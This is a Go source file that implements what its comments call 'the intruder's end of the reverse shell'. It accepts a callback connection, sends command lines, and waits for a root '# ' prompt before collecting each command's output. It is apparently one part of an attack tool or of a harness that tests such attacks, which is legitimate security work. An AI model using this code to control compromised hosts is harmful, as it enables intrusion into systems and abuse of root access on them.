//go:build linux

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// shell is the intruder's end of the reverse shell.
type shell struct {
	conn net.Conn

	mu    sync.Mutex
	heard bytes.Buffer // since the last line was sent
	last  time.Time    // when something was heard
	ended bool
}

// acceptShell waits for the reverse shell to call back.
func acceptShell(ctx context.Context, listener *net.TCPListener) (*shell, error) {
	deadline, ok := ctx.Deadline()
	if !ok {
		deadline = time.Now().Add(20 * time.Second)
	}
	if err := listener.SetDeadline(deadline); err != nil {
		return nil, err
	}
	conn, err := listener.Accept()
	if err != nil {
		return nil, fmt.Errorf("the reverse shell did not call back: %w", err)
	}
	s := &shell{conn: conn}
	go s.listen()
	return s, nil
}

func (s *shell) listen() {
	buffer := make([]byte, 16<<10)
	for {
		n, err := s.conn.Read(buffer)
		s.mu.Lock()
		s.heard.Write(buffer[:n])
		s.last = time.Now()
		s.ended = err != nil
		s.mu.Unlock()
		if err != nil {
			return
		}
	}
}

// say sends a line.
func (s *shell) say(line string) error {
	s.mu.Lock()
	s.heard.Reset()
	s.last = time.Now()
	s.mu.Unlock()
	_, err := io.WriteString(s.conn, line+"\n")
	return err
}

// answer waits until the command is done and returns what it printed: when a
// prompt stands at the end, or, on the bare connection, when it has been quiet.
func (s *shell) answer(ctx context.Context, prompt bool) (string, error) {
	const (
		quiet = 300 * time.Millisecond
		most  = time.Minute
	)
	ctx, cancel := context.WithTimeout(ctx, most)
	defer cancel()
	for {
		s.mu.Lock()
		heard, since, ended := s.heard.String(), time.Since(s.last), s.ended
		s.mu.Unlock()
		switch {
		case ended:
			return heard, io.EOF
		case prompt && endsInPrompt(heard) && since > 50*time.Millisecond:
			return heard, nil
		case !prompt && since > quiet:
			return heard, nil
		}
		select {
		case <-ctx.Done():
			return heard, errors.Join(fmt.Errorf("no prompt after %q", heard), ctx.Err())
		case <-time.After(10 * time.Millisecond):
		}
	}
}

// endsInPrompt tells whether root's prompt stands at the end: "# ", perhaps
// followed by bash's switch to bracketed paste.
func endsInPrompt(heard string) bool {
	text := bytes.TrimSuffix([]byte(heard), []byte("\x1b[?2004h"))
	return bytes.HasSuffix(text, []byte("# "))
}

func (s *shell) close() { _ = s.conn.Close() }
